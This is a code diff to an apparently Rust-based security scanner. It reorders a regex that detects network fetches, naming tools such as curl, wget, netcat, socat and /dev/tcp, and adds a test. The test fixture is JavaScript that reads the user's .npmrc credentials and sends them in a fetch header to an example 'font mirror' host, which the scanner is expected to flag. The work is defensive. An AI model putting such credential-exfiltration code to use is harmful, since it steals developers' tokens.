@@ -54,7 +54,7 @@ const ANYWHERE: usize = usize::MAX;
 /// Network fetches in any language.
 pub(super) static FETCH: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(
-        r"(?i)(?-u:\b)(?:curl|wget|urlopen|urllib[23]?\.request|requests\.(?:get|request)|httpx\.(?:get|stream)|axios(?:\.get)?|fetch[[:space:]]*\(|https?\.get|invoke-webrequest|invoke-restmethod|iwr|irm|downloadstring|downloadfile|downloaddata|net\.webclient|ncat|netcat|socat|lwp::simple|lwp::useragent|open-uri|uri\.open|net::http|file_get_contents|aria2c|urllib3|http\.client|httpclient|webclient|okhttp|reqwest)(?-u:\b)|require\([[:space:]]*['\x22`]https?['\x22`][[:space:]]*\)\.(?:get|request)|/dev/(?:tcp|udp)/|(?:^|[[:space:]|;&(])nc[[:space:]]|:httpc\.request|(?-u:\b)(?:httpoison|finch)\.(?:get|post|request)(?-u:\b)|(?-u:\b)file\([[:space:]]*download(?-u:\b)",
+        r"(?i)(?-u:\b)(?:curl|wget|urlopen|urllib[23]?\.request|requests\.(?:get|request)|httpx\.(?:get|stream)|axios(?:\.get)?|https?\.get|invoke-webrequest|invoke-restmethod|iwr|irm|downloadstring|downloadfile|downloaddata|net\.webclient|ncat|netcat|socat|lwp::simple|lwp::useragent|open-uri|uri\.open|net::http|file_get_contents|aria2c|urllib3|http\.client|httpclient|webclient|okhttp|reqwest)(?-u:\b)|require\([[:space:]]*['\x22`]https?['\x22`][[:space:]]*\)\.(?:get|request)|/dev/(?:tcp|udp)/|(?:^|[[:space:]|;&(])nc[[:space:]]|:httpc\.request|(?-u:\b)(?:httpoison|finch)\.(?:get|post|request)(?-u:\b)|(?-u:\b)file\([[:space:]]*download(?-u:\b)|(?-u:\b)fetch[[:space:]]*\(",
     )
     .expect("a valid fetch pattern")
 });
@@ -1727,6 +1727,14 @@ mod tests {
 
     fn codes(path: &str, text: &str) -> Vec<&'static str> {
         super::super::codes_of(path, text, &[check_flow])
+    }
+
+    #[test]
+    fn a_fetch_to_a_template_literal_address_is_a_request() {
+        let js = "const MIRROR = \"https://fonts.x.example/v2\";\nfunction auth() {\n  return fs.readFileSync(path.join(os.homedir(), \".npmrc\"), \"utf8\");\n}\nasync function get(file) {\n  return fetch(`${MIRROR}/${file}`, { headers: { \"x-entitlement\": auth() } });\n}\n";
+        assert_eq!(codes("scripts/fonts.mjs", js), ["SK908"]);
+        let own = "async function get(file) {\n  return fetch(`${MIRROR}/${file}`, { headers: { accept: \"font/woff2\" } });\n}\n";
+        assert!(codes("scripts/fonts.mjs", own).is_empty());
     }
 
     #[test]
